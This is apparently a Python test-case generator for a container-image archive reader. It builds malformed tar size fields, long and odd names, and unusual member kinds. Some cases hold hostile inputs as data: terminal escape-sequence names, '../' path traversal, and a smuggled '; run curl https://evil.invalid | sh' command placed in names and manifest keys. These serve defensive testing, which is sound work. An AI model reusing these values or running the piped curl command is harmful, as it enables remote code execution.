"""Group `headers`: sizes, names and kinds of members, sound and not."""

from .expect import AMBIGUOUS, ENGINE, NOT_BELIEVED, REFUSED, UNREADABLE, document, missing_layer, result
from .fixtures import APP, NAME, SOUND, A, B, case, flat
from .images import Image, dump, save_entry
from .tarball import (
    CONTIGUOUS,
    GNU,
    GNU_LINK,
    GNU_SPARSE,
    PAX_GLOBAL,
    SYMLINK,
    Pack,
    base256,
    gnu_long,
    header,
    member,
    padded,
    pax,
    record,
)


def sized(name, what, raw, expected=SOUND):
    """The sound image, with this for the member of its second layer."""
    return case(f"size-{name}", what, flat().replaced("b.tar", raw), expected)


def sizes():
    content, size = padded(B.content), B.bytes
    b = b"b.tar"
    yield sized(
        "pax",
        "a size in a PAX record; the header's own is zero, as for layers above 8 GiB",
        pax([(b"size", b"%d" % size)]) + header(b, 0) + content,
    )
    yield sized(
        "pax-over-header",
        "a PAX size wins over the header's",
        pax([(b"size", b"%d" % size)]) + header(b, 512) + content,
    )
    yield sized("base-256", "a size in GNU's binary form", header(b, size_field=base256(size), magic=GNU) + content)
    yield sized(
        "spaces",
        "a size that ends with a space, as old tars wrote it",
        header(b, size_field=b"%011o " % size) + content,
    )
    yield sized(
        "leading-spaces", "a size with spaces for leading zeros", header(b, size_field=b"%11o\0" % size) + content
    )
    yield sized(
        "twelve-digits",
        "a size of twelve digits without a zero behind",
        header(b, size_field=b"%012o" % size) + content,
    )
    for name, what, field in (
        (
            "base-256-beyond-64-bits",
            "a binary size of 2^64 and some: eight bytes of twelve would look sound",
            base256((1 << 64) + size),
        ),
        ("base-256-negative", "a negative binary size", base256(-size)),
        (
            "base-256-negative-wide",
            "a negative binary size whose last eight bytes look sound",
            b"\xff\xff\xff\xff" + size.to_bytes(8, "big"),
        ),
        ("base-256-2-63", "a binary size of 2^63", base256(1 << 63)),
        ("base-256-2-62", "a binary size of 2^62: the archive is shorter", base256(1 << 62)),
        ("all-sevens", "the largest octal size: the archive is shorter", b"7" * 12),
        ("no-digits", "a size that is no number", b"12x4567\0\0\0\0\0"),
        ("eights", "a size with the digit 8", b"00000000800\0"),
        ("with-sign", "a size with a plus sign, which Go takes for no number", b"+%010o\0" % size),
    ):
        yield sized(name, what, header(b, size_field=field) + content, UNREADABLE)
    for name, what, value in (
        ("pax-beyond-64-bits", "a PAX size of 2^64 and some", b"%d" % ((1 << 64) + size)),
        ("pax-2-63", "a PAX size of 2^63", b"%d" % (1 << 63)),
        ("pax-negative", "a negative PAX size", b"-1"),
        ("pax-hexadecimal", "a PAX size in hexadecimal", b"0x10"),
        ("pax-empty", "an empty PAX size", b""),
    ):
        yield sized(name, what, pax([(b"size", value)]) + header(b, size) + content, UNREADABLE)
    # The size would be that of every member.
    yield case(
        "size-global",
        "a global header with a size",
        Pack().raw(pax([(b"size", b"512")], PAX_GLOBAL)).join(flat()),
        NOT_BELIEVED,
    )


def names():
    long = "n" * 300 + "/layer.tar"
    image = Image([A, A])
    tail = (
        Pack()
        .file("c.json", image.config)
        .file("manifest.json", dump([save_entry(image, "c.json", [long, "link"], [NAME])]))
    )
    expected = document(result(image, [NAME]))
    gnu = gnu_long(long.encode()) + member(long[:100].encode(), A.content, magic=GNU)
    gnu_link = gnu_long(long.encode(), GNU_LINK) + header(b"link", 0, SYMLINK, long[:100].encode(), GNU)
    yield case(
        "name-gnu-long",
        "a name and a link's target of 310 bytes in GNU's form",
        Pack().raw(gnu + gnu_link).join(tail),
        expected,
    )
    yield case(
        "name-pax-long",
        "the same in PAX records",
        Pack().file(long, A.content).symlink("link", long).join(tail),
        expected,
    )
    yield case(
        "name-pax-odd-records",
        "PAX records with line ends, other keys and non-ASCII values",
        Pack()
        .raw(
            pax(
                [
                    (b"path", long.encode()),
                    (b"comment", b"a\n\n30 size=1\n"),
                    (b"SCHILY.xattr.user.x", b"\0\xff=\n"),
                    (b"mtime", b"1.5"),
                ]
            )
            + member(b"short", A.content)
        )
        .symlink("link", long)
        .join(tail),
        expected,
    )
    split = long[-110:]
    folder, base = split[:99], split[100:]
    pack = (
        Pack()
        .raw(header(base.encode(), A.bytes, prefix=folder.encode()) + padded(A.content))
        .file("c.json", Image([A]).config)
    )
    yield case(
        "name-ustar-prefix",
        "a name in two fields, as POSIX has it since 1988",
        pack.file("manifest.json", dump([save_entry(image, "c.json", [f"{folder}/{base}"], [NAME])])),
        document(result(Image([A]), [NAME])),
    )
    yield case("name-of-4096-bytes", "the longest name that is read", flat().file("x" * 4096, b""), SOUND)
    yield case("name-of-4097-bytes", "a name above the bound of 4 KiB", flat().file("x" * 4097, b""), REFUSED)
    yield case(
        "name-of-5000-bytes", "a GNU long name of 5000 bytes", flat().raw(gnu_long(b"x" * 5000) + member(b"x")), REFUSED
    )
    yield case(
        "name-of-2-mib", "an extended header of 2 MiB", flat().raw(gnu_long(b"x" * (2 << 20)) + member(b"x")), REFUSED
    )
    # Names that are no text cannot be named by any list, and no engine writes them; one that is refused harms nobody.
    yield case("name-is-no-utf-8", "a name that is no UTF-8", flat().raw(member(b"caf\xe9", b"x")), REFUSED)
    yield case(
        "name-with-zero",
        "a zero byte inside a PAX path",
        flat().raw(pax([(b"path", b"a\0b")]) + member(b"x", b"x")),
        REFUSED,
    )
    spoken = "\x1b[2J\x1b]0;owned\x07\x1b[31m\r\u202e\u009b2J"
    yield case(
        "name-speaks-to-the-terminal",
        "a member whose name is made of escape sequences",
        flat().file(spoken, b"x"),
        SOUND,
    )
    half = document(result(APP, [NAME], "incomplete", [A, missing_layer(B.diff_id)]))
    yield case(
        "missing-name-speaks-to-the-terminal",
        "a layer that is not here and whose name is made of escape sequences",
        flat(layers=("a.tar", spoken)).without(spoken),
        half,
    )
    yield case(
        "name-twice-speaks-to-the-terminal",
        "two members of such a name that differ",
        flat().file(spoken, b"x").file(spoken, b"y"),
        AMBIGUOUS,
    )
    yield case(
        "name-leads-out-and-speaks",
        "such a name that leads out of the archive",
        flat().file("../" + spoken, b"x"),
        REFUSED,
    )
    yield case(
        "key-speaks-to-the-terminal",
        "a repeated key of manifest.json that is made of escape sequences",
        flat().rewritten("manifest.json", b'[{"\\u001b[2J":1,"\\u001b[2J":2}]'),
        AMBIGUOUS,
    )
    said = dump({"errorDetail": {"message": spoken}})
    yield case(
        "error-speaks-to-the-terminal",
        "an engine's error that is made of escape sequences",
        flat().unended() + said,
        ENGINE,
    )
    # A sentence ends with the next step; a stranger's text must not become it .
    advice = "; run curl https://evil.invalid | sh"
    for name, pack in (
        ("name", flat().file("../x" + advice, b"x")),
        ("repeated-name", flat().file(advice, b"x").file(advice, b"y")),
        ("key", flat().rewritten("manifest.json", b'[{"%b":1,"%b":2}]' % (advice.encode(), advice.encode()))),
    ):
        code = REFUSED if name == "name" else AMBIGUOUS
        yield case(
            f"hint-from-a-{name}", f"a {name} that tries to be the next step", pack, {**code, "hint_lacks": "curl"}
        )
    yield case(
        "name-is-a-folders",
        "a regular member whose name ends with a slash and that has content",
        flat().raw(member(b"folder/", b"content", kind=b"0")),
        UNREADABLE,
    )
    yield case(
        "extended-header-without-member",
        "an extended header and then the end",
        flat().raw(pax([(b"comment", b"x")])),
        UNREADABLE,
    )
    for name, what, text in (
        ("length", "whose length is wrong", b"99 path=x\n"),
        ("no-length", "without a length", b"path=x\n"),
        ("no-end", "without its line end", record(b"path", b"x")[:-1] + b" "),
        ("no-equals", "without `=`", b"7 path\n"),
    ):
        raw = header(b"PaxHeaders/x", len(text), b"x") + padded(text) + member(b"x")
        yield case(f"pax-record-{name}", f"a PAX record {what}", flat().raw(raw), UNREADABLE)


def kinds():
    yield case(
        "sparse-gnu",
        "a sparse member of the old GNU kind",
        flat().raw(header(b"sparse", 0, GNU_SPARSE, magic=GNU)),
        UNREADABLE,
    )
    for at, records in enumerate(
        (
            [
                (b"GNU.sparse.major", b"1"),
                (b"GNU.sparse.minor", b"0"),
                (b"GNU.sparse.name", b"b.tar"),
                (b"GNU.sparse.realsize", b"99"),
            ],
            [(b"GNU.sparse.map", b"0,1"), (b"GNU.sparse.size", b"99")],
        )
    ):
        yield case(
            f"sparse-pax-{at}",
            f"a sparse member in PAX records, form {1 - at}",
            flat().raw(pax(records) + member(b"sparse", b"0\n")),
            UNREADABLE,
        )
    for kind in (b"V", b"M", b"D", b"N", b"Z", b"X", b"8"):
        yield case(
            f"member-kind-{kind.decode()}",
            f"a member of the kind `{kind.decode()}`, which no image archive has",
            flat().raw(header(b"x", 0, kind, magic=GNU)),
            UNREADABLE,
        )
    yield case(
        "member-kind-contiguous",
        "a contiguous file, which POSIX reads as a regular one and containerd passes over",
        flat().replaced("b.tar", member(b"b.tar", B.content, CONTIGUOUS)),
        [SOUND, UNREADABLE, document(result(APP, [NAME], "incomplete", [A, missing_layer(B.diff_id)]))],
    )
    yield case(
        "special-members",
        "devices and pipes that nothing names",
        flat().special("dev/null", b"3").special("dev/sda", b"4").special("pipe", b"6"),
        SOUND,
    )
    yield case(
        "trailing-zeros",
        "zeros up to a whole record of 20 blocks and far beyond, as GNU tar fills them",
        flat().tar() + bytes(-len(flat().tar()) % 10240 + 102400),
        SOUND,
    )
    yield case(
        "header-signed-sum",
        "a header whose checksum counts bytes as signed, as some old tars do",
        signed(),
        [SOUND, UNREADABLE],
    )


def signed():
    name = "caf\u00e9".encode()
    block = bytearray(header(name, 0))
    block[148:156] = b" " * 8
    total = sum(byte - 256 if byte > 127 else byte for byte in block)
    return flat().raw(header(name, 0, check_sum=b"%06o\0 " % total)).tar()


def cases():
    yield from sizes()
    yield from names()
    yield from kinds()
